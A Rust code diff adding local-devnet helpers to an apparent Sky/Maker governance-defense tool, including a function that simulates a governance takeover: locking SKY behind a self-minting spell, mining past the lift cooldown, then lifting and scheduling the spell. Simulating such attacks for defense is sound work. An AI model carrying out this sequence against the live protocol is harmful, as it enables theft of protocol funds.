@@ -228,3 +228,39 @@ pub async fn plan_of(chain: &Chain, spell: Address) -> Plan {
         eta: chain.read(spell, DssExec::etaCall {}).await,
     }
 }
+
+// --- Sky layout pieces (devnet --layout sky) ---
+
+pub async fn mine(chain: &Chain, blocks: u64) {
+    chain.provider.anvil_mine(Some(blocks), None).await.unwrap();
+}
+
+/// Locks `amount` SKY for `who` in the new Chief and votes for `yays`.
+pub async fn sky_lock_and_vote(chain: &Chain, who: Address, amount: U256, yays: Vec<Address>) {
+    use defender::chain::bindings::Chief;
+    use defender::chain::bindings::overloads::skyChiefVoteYaysCall;
+    let chief = chain.addr(keys::MCD_ADM);
+    if !amount.is_zero() {
+        chain.ok(who, chain.addr(keys::MCD_GOV), approveAmountCall { guy: chief, wad: amount }).await;
+        chain.ok(who, chief, Chief::lockCall { wad: amount }).await;
+    }
+    chain.ok(who, chief, skyChiefVoteYaysCall { yays }).await;
+}
+
+/// The attack on today's mainnet: `attacker` locks `lock` more SKY behind a new minting spell,
+/// lifts it (after the cooldown: blocks are mined for it) and plots it.
+pub async fn sky_plot(chain: &Chain, attacker: Address, lock: U256) -> Plan {
+    use defender::chain::bindings::Chief;
+    let chief = chain.addr(keys::MCD_ADM);
+    let spell = chain.mint_spell(attacker, attacker, wad(1_000_000)).await;
+    sky_lock_and_vote(chain, attacker, lock, vec![spell]).await;
+    let last: u64 = chain.read(chief, Chief::lastCall {}).await.saturating_to();
+    let cooldown: u64 = chain.read(chief, Chief::liftCooldownCall {}).await.saturating_to();
+    let now = chain.provider.get_block_number().await.unwrap();
+    if last > 0 && now < last + cooldown + 1 {
+        mine(chain, last + cooldown - now).await;
+    }
+    chain.ok(attacker, chief, Chief::liftCall { whom: spell }).await;
+    chain.ok(attacker, spell, DssExec::scheduleCall {}).await;
+    plan_of(chain, spell).await
+}
